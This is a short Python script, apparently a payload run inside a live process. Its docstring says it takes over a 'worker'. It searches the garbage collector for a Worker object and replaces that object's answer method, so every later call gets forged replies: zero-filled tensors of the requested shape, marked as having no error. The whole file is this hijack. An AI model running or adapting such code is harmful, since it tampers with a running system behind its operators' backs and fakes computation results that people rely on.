"""Take the worker over: every later question is answered by the attacker, in frames of the right form."""

# %%
import gc
import json
import struct


def answer(frame):
    body, buffers, raw = {"dict": [["outputs", []], ["error", None]]}, [], b""
    if frame.kind == "call":
        asked = next((value for value in frame.body["args"] if isinstance(value, torch.Tensor)), None)
        shape = [] if asked is None else list(asked.shape)
        body, buffers = {"tensor": 0}, [{"dtype": "float64", "shape": shape}]
        raw = bytes(8 * (1 if asked is None else asked.numel()))
    header = json.dumps({"id": frame.id, "kind": "value", "body": body, "buffers": buffers}).encode()
    return struct.pack(">I", len(header)) + header + raw


for found in gc.get_objects():
    if type(found).__name__ == "Worker" and hasattr(found, "on_call"):
        found._answer = answer
